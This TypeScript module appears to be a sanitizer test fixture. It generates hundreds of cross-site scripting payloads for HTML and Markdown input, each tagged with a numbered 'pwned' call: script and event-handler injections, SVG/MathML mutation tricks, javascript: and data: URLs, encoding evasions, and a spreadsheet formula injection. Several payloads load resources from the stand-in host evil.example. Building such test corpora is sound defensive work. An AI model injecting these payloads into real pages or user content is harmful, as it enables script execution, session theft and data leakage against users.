// Families of what people have tried to slip into other people's pages. `@` stands for the call that tells on it.

const calls = [
  "pwned(#)",
  "parent.pwned(#)",
  "top.pwned(#)",
  "alert(#)",
  "window['pwned'](#)",
  "eval('pwned(#)')",
];
/** Quotes of the call's own would end an attribute before its time. */
const callIn = (text: string, n: number): string =>
  calls[n % (/['"]/.test(text) ? 4 : calls.length)]!.replace("#", String(n));
const armed = (text: string, n: number): string =>
  text.replaceAll(/(?<!\[)@(?!import|keyframes|b\.example)/g, () => callIn(text, n));
const entities = (text: string): string => [...text].map((sign) => `&#${sign.codePointAt(0)};`).join("");
const hex = (text: string): string =>
  [...text].map((sign) => `&#x${sign.codePointAt(0)!.toString(16)}`).join("");

const events = [
  ..."onclick onerror onload onfocus onmouseover onmouseenter onpointerover onpointerrawupdate ontoggle onbegin".split(
    " ",
  ),
  ..."onanimationstart onanimationend ontransitionend onscroll onwheel oncopy oncut onpaste onkeydown oninput".split(
    " ",
  ),
  ..."onbeforetoggle oncontentvisibilityautostatechange onscrollend onsearch onresize onpageshow onmessage".split(
    " ",
  ),
  ..."onhashchange onpopstate onunhandledrejection onplay oncanplay onloadstart onbounce onauxclick".split(
    " ",
  ),
];
const elements = [
  "img src=x",
  "svg",
  "video src=x",
  "audio src=x",
  "body",
  "details open",
  "input autofocus",
  "marquee",
];

const handlers = events.map((event, n) => `<${elements[n % elements.length]} ${event}=@>`);

const scripts = [
  "<script>@</script>",
  "<SCRIPT>@</SCRIPT>",
  "<script >@</script >",
  "<script/x>@</script>",
  "<script\n>@</script\n>",
  "<scr<script>ipt>@</scr</script>ipt>",
  "<script src=http://evil.example/@.js></script>",
  "<script src=//evil.example/@.js></script>",
  "<script src=data:text/javascript,@></script>",
  "<script type=module>@</script>",
  "<script>/*</script><script>*/@</script>",
  "</script><script>@</script>",
  "</title><script>@</script>",
  "</textarea><script>@</script>",
  "</style><script>@</script>",
  "</noscript><script>@</script>",
  "</p></div></li></ol><script>@</script>",
  "--><script>@</script>",
  "]]><script>@</script>",
  '"><script>@</script>',
  "'><script>@</script>",
  "`><script>@</script>",
  "<<script>@//<</script>",
  "<script>@",
  "\0<script>@</script>",
  "<\0script>@</script>",
  "\ufeff<script>@</script>",
  "＜script＞@＜/script＞",
  "\u202e<script>@</script>",
  "%3Cscript%3E@%3C/script%3E",
  "&lt;script&gt;@&lt;/script&gt;",
  "\\u003cscript\\u003e@\\u003c/script\\u003e",
  "\\x3cscript\\x3e@\\x3c/script\\x3e",
  "+ADw-script+AD4-@+ADw-/script+AD4-",
];

const html = [
  "<iframe src=javascript:@></iframe>",
  "<iframe srcdoc='<script>@</script>'></iframe>",
  "<iframe src=data:text/html,<script>@</script>></iframe>",
  "<frameset onload=@>",
  "<object data=javascript:@></object>",
  "<object data=data:text/html;base64,PHNjcmlwdD5wd25lZCgxKTwvc2NyaXB0Pg==></object>",
  "<embed src=javascript:@>",
  "<applet code=@></applet>",
  "<form action=javascript:@><button>Weiter</button></form>",
  "<button formaction=javascript:@ form=x>Weiter</button>",
  "<form id=x></form><input type=submit form=x formaction=javascript:@>",
  "<isindex action=javascript:@ type=submit>",
  "<base href=http://evil.example/>",
  "<base href=javascript:@//>",
  "<meta http-equiv=refresh content='0;url=javascript:@'>",
  "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
  "<link rel=stylesheet href=http://evil.example/x.css>",
  "<link rel=import href=data:text/html,<script>@</script>>",
  "<link rel=prefetch href=http://evil.example/>",
  "<style>@import 'http://evil.example/x.css';</style>",
  "<style>*{background:url(http://evil.example/)}</style>",
  "<div style=\"background:url('http://evil.example/')\">",
  "<div style='width:expression(@)'>",
  "<style>@keyframes x{}</style><b style='animation-name:x' onanimationstart=@></b>",
  "<img src=http://evil.example/pixel.png>",
  "<img srcset='http://evil.example/a 1x'>",
  "<picture><source srcset=http://evil.example/a></picture>",
  "<video poster=http://evil.example/a></video>",
  "<audio src=http://evil.example/a autoplay></audio>",
  "<table background=http://evil.example/a></table>",
  "<input type=image src=http://evil.example/a>",
  "<a href=javascript:@>Hier</a>",
  "<a href='java\tscript:@'>Hier</a>",
  "<a href=' javascript:@'>Hier</a>",
  "<a href='&#106;avascript:@'>Hier</a>",
  "<a href=x ping=http://evil.example/>Hier</a>",
  "<a xlink:href=javascript:@>Hier</a>",
  "<area href=javascript:@>",
  "<map><area shape=default href=javascript:@></map>",
  "<portal src=javascript:@></portal>",
  "<dialog open onclose=@><form method=dialog><button>Zu</button></form></dialog>",
  "<x contenteditable onblur=@ tabindex=1 autofocus>",
  "<custom-element onfocus=@ autofocus tabindex=1>",
  "<select autofocus onfocus=@></select>",
  "<keygen autofocus onfocus=@>",
  "<img/src/onerror=@>",
  "<img\nsrc=x\nonerror=@>",
  "<img src=x onerror\n=@>",
  "<img src='x'onerror=@>",
  "<img src=x:x onerror=@//",
  "<image src=x onerror=@>",
  "<img src=1 href=1 onerror='@'></img>",
  "<img onerror=@ src=x a=''>",
  "<IMG SRC=x ONERROR=@>",
  "<img src=`x` onerror=`@`>",
  "<template><img src=x onerror=@></template>",
  "<template shadowrootmode=open><script>@</script></template>",
  "<slot onslotchange=@></slot>",
  "<plaintext><img src=x onerror=@>",
  "<xmp><img src=x onerror=@></xmp><img src=x onerror=@>",
  "<noembed><img src=x onerror=@></noembed>",
  "<listing>&lt;img src=x onerror=@&gt;</listing>",
  "<!--><img src=x onerror=@>-->",
  "<!--[if IE]><script>@</script><![endif]-->",
  "<!-- --!><img src=x onerror=@>",
  "<![CDATA[<img src=x onerror=@>]]>",
  "<?xml version='1.0'?><img src=x onerror=@>",
  "<!DOCTYPE x [<!ENTITY e '<img src=x onerror=@>'>]>&e;",
  "</<img src=x onerror=@>",
  "<a id=pwned href=x>Verdeckt</a><form name=getElementById><input name=attributes></form>",
  "<img name=cookie><img name=body>",
];

const foreign = [
  "<svg><script>@</script></svg>",
  "<svg><script href=data:,@ /></svg>",
  "<svg><script xlink:href=data:text/javascript,@></script></svg>",
  "<svg/onload=@>",
  "<svg><animate onbegin=@ attributeName=x dur=1s>",
  "<svg><set attributeName=onmouseover to=@>",
  "<svg><a xlink:href=javascript:@><text x=20 y=20>Hier</text></a></svg>",
  "<svg><a><animate attributeName=href values=javascript:@ /><text x=20 y=20>Hier</text></a></svg>",
  "<svg><use href='data:image/svg+xml,<svg id=x onload=@>#x'/></svg>",
  "<svg><foreignObject><iframe src=javascript:@></iframe></foreignObject></svg>",
  "<svg><image href=http://evil.example/a></svg>",
  "<svg><style><img src=x onerror=@></style></svg>",
  "<svg><desc><img src=x onerror=@></desc></svg>",
  "<svg><title><img src=x onerror=@></title></svg>",
  "<svg><discard onbegin=@>",
  "<svg><handler type=text/javascript>@</handler></svg>",
  "<svg><feImage xlink:href=http://evil.example/a /></svg>",
  "<math><mi xlink:href=javascript:@>Hier</mi></math>",
  "<math href=javascript:@>Hier</math>",
  "<math><maction actiontype=statusline xlink:href=javascript:@>Hier</maction></math>",
  "<math><annotation-xml encoding=text/html><script>@</script></annotation-xml></math>",
  "<math><mtext><table><mglyph><style><img src=x onerror=@>",
  "<math><mtext><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=@&gt;'>",
];

const mutating = [
  "<noscript><p title='</noscript><img src=x onerror=@>'>",
  "<svg></p><style><a id='</style><img src=x onerror=@>'>",
  "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=@>",
  "<table><tr><td><svg><desc><table><tr><style><!--</style><img src=x onerror=@>-->",
  "<select><template><style><!--</style><a rel='--></style></template></select><img src=x onerror=@>'>",
  "<p><svg><title><style><img src='</style><img src=x onerror=@>'>",
  "<listing>&#10;<img src=x onerror=@></listing>",
  "<textarea><img title='</textarea><img src=x onerror=@>'></textarea>",
  "<title><img title='</title><img src=x onerror=@>'></title>",
  "<style><img title='</style><img src=x onerror=@>'></style>",
  "<xmp><p title='</xmp><img src=x onerror=@>'></xmp>",
  "<iframe><p title='</iframe><img src=x onerror=@>'></iframe>",
  "<noembed><p title='</noembed><img src=x onerror=@>'></noembed>",
  "<b title='`><img src=x onerror=@>`'>x</b>",
  "<a title='&quot;&gt;&lt;img src=x onerror=@&gt;'>x</a>",
  "<details><summary><svg><p><style><g title='</style><img src=x onerror=@>'>",
];

const schemes = [
  ..."javascript:@ JAVASCRIPT:@ JaVaScRiPt:@ javascript://%0a@ javascript://evil.example/%0a@ javascript:void(@)".split(
    " ",
  ),
  ..."data:text/html,<script>@</script> data:text/html;base64,PHNjcmlwdD4= data:image/svg+xml,<svg/onload=@>".split(
    " ",
  ),
  ..."vbscript:@ livescript:@ mocha:@ view-source:javascript:@ feed:javascript:@ jar:javascript:@ blob:null".split(
    " ",
  ),
  ..."file:///etc/passwd filesystem:http://x about:blank intent:@ ms-settings: vnd.ms.radio: ssh://x chrome://x".split(
    " ",
  ),
  ..."//evil.example/@ /\\evil.example/@ \\\\evil.example/@ ///evil.example /%09/evil.example /%5cevil.example".split(
    " ",
  ),
  ..."java%0ascript:@ java%09script:@ %6aavascript:@ javascript%3A@ javascript&colon;@ javascript&#58;@".split(
    " ",
  ),
  ..."&#106;avascript:@ &#x6A;avascript:@ &#0000106avascript:@ jav&Tab;ascript:@ jav&NewLine;ascript:@".split(
    " ",
  ),
  ..."person:javascript:@ place:javascript:@ all:javascript:@ person:../../x place:%2e%2e all:here:@".split(
    " ",
  ),
  "\u0001javascript:@",
  "\u00a0javascript:@",
  "\u200bjavascript:@",
  "ｊavascript:@",
  "java\u00adscript:@",
  "person:00000000-0000-4000-8000-00000000000x",
  "place:------------------------------------",
  "place:00000000-0000-4000-8000-000000000000'onclick='@",
];
/** Everywhere Markdown takes an address. */
const places: ((url: string) => string)[] = [
  (url) => `[Hier](${url})`,
  (url) => `[Hier](<${url}>)`,
  (url) => `![Bild](${url})`,
  (url) => `<${url}>`,
  (url) => `[Hier][x]\n\n[x]: ${url}`,
];
const links = schemes.flatMap((url) => places.map((place) => place(url)));

const markdown = [
  '[x](http://a.example "onmouseover=@ \\"><img src=x onerror=@>")',
  "[x](http://a.example '\"onmouseover=\"@')",
  '![x" onerror="@](x)',
  "![<img src=x onerror=@>](x)",
  "[<img src=x onerror=@>](http://a.example)",
  "[![x](javascript:@)](javascript:@)",
  "[a](javascript:@\n)",
  "[a](java\nscript:@)",
  "[a]( javascript:@ )",
  "[a](\\javascript:@)",
  '[a](http://a.example"onclick=@)',
  'http://a.example/"onmouseover=@',
  "http://a.example/<script>@</script>",
  'www.evil.example"onclick=@',
  "javascript://www.evil.example/%0a@",
  "mailto:a@b.example?subject=<script>@</script>",
  '<http://a.example/" onclick=@>',
  "<javascript:@//a@b.example>",
  "`<img src=x onerror=@>`",
  "``` <img src=x onerror=@>\n<img src=x onerror=@>\n```",
  "```html onload=@\n<script>@</script>\n```",
  '~~~"><script>@</script>\nx\n~~~',
  "    <script>@</script>",
  "# <img src=x onerror=@>",
  "> <img src=x onerror=@>",
  "- [ ] <img src=x onerror=@>",
  "| <img src=x onerror=@> |\n|---|\n| <script>@</script> |",
  "[^1]\n\n[^1]: <img src=x onerror=@>",
  "[^<img src=x onerror=@>]\n\n[^<img src=x onerror=@>]: x",
  "[__proto__][__proto__]\n\n[__proto__]: javascript:@",
  "[constructor]\n\n[constructor]: javascript:@",
  "[@<img src=x onerror=@>](person:00000000-0000-4000-8000-000000000000)",
  '[@x" onclick="@](all:here)',
  '[@x](all:here "onclick=@")',
  "*<img src=x onerror=@>*",
  '**"><svg/onload=@>**',
  "~~<svg onload=@>~~",
  "\\<script>@\\</script>",
  "<b>fett</b><img src=x onerror=@>",
  "<div>\n\n[x](javascript:@)\n\n</div>",
  "<details><summary>\n\n<script>@</script>\n\n</summary></details>",
  "$\\href{javascript:@}{x}$",
  ":::<script>@</script>",
  "{{constructor.constructor('@')()}}",
  "${@}",
  "#{@}",
  "<%= @ %>",
  "{% raw %}@{% endraw %}",
  "{{7*7}}[[${@}]]",
  "__html:<img src=x onerror=@>",
  '{"__html":"<img src=x onerror=@>"}',
  "%s%n<img src=x onerror=@>",
  "=cmd|'/c calc'!A1",
];

/** The same, hidden by ways of writing. */
const hidden = ["<script>@</script>", "<img src=x onerror=@>", "<svg/onload=@>", "[x](javascript:@)"]
  .map(armed)
  .flatMap((text) => [
    entities(text),
    hex(text),
    encodeURIComponent(text),
    encodeURIComponent(encodeURIComponent(text)),
    [...text].join("\0"),
    [...text].join("\u200b"),
    text.replaceAll("<", "\u003c\ufe0f"),
    text.replaceAll("<", "〈"),
    text.replaceAll("s", "ſ"),
    text.normalize("NFKD").replaceAll("i", "ı"),
    text.toUpperCase(),
    `\u202e${text}\u202c`,
    `\ud83d${text.replaceAll("<", "\u{1f600}<")}`,
  ]);

/** Every payload, each with a call that names its number. */
export const payloads: readonly string[] = [
  ...new Set([...scripts, ...handlers, ...html, ...foreign, ...mutating, ...markdown, ...hidden, ...links]),
].map((text, n) =>
  // What PostgreSQL and JSON cannot hold is refused at the door; that is another test.
  armed(text, n).replaceAll(/\0|[\ud800-\udbff](?![\udc00-\udfff])/g, ""),
);

/** Markup that runs where a page trusts it: to see that whoever looks for executions finds them. */
export const working: readonly string[] = [...handlers, ...html, ...foreign]
  // These would lead the page away before anybody has looked at it.
  .filter((text) => !/<(meta|base|form|frameset|isindex|button|input type=submit|dialog)/.test(text))
  .map((text, n) => text.replaceAll(/@(?!import|keyframes)/g, `pwned(${n})`));
